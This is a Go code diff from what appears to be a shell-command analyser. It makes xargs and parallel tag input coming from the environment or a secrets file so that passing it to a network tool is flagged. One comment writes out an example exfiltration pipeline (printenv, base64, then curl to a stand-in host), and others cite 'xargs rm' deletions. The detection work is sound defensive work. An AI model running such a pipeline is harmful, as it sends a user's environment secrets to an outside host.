@@ -411,7 +411,7 @@ func xargs(iv *inv) {
 	if i < len(args) {
 		cmd = args[i:]
 	}
-	item := arg{src: "<items from stdin>", item: true}
+	item := stdinItem(iv.in)
 	if iv.in.kind == srcPaths { // find DIR … | xargs rm: the items are under DIR
 		item = named(under(arg{s: iv.in.text, ok: true, src: iv.in.text}, !iv.in.every), iv.in.pattern)
 	}
@@ -440,6 +440,21 @@ func xargs(iv *inv) {
 		cmd = append(cmd[:len(cmd):len(cmd)], item)
 	}
 	iv.c.run(cmd, iv.sc, source{}, iv.depth+1)
+}
+
+// secretItems marks the items xargs or parallel reads from the
+// environment or a secrets file, through whatever filters (printenv | gzip
+// | base64 | xargs -I{} curl "https://x/?d={}"): a network tool given one
+// sends them.
+const secretItems = "<secret items from stdin>"
+
+// stdinItem is the unknown item xargs or parallel puts in its command for
+// what it reads from in.
+func stdinItem(in source) arg {
+	if in.kind == srcSecret {
+		return arg{src: secretItems, item: true}
+	}
+	return arg{src: "<items from stdin>", item: true}
 }
 
 // stdinItems are the items xargs reads from in, split as split says, when
@@ -505,7 +520,7 @@ func parallel(iv *inv) {
 		}
 	}
 	if fromStdin {
-		inputs = []arg{{src: "<items from stdin>", item: true}}
+		inputs = []arg{stdinItem(iv.in)}
 		iv.agedItems(cmd) // find . -mtime -1 | parallel rm
 	}
 	for _, in := range inputs {
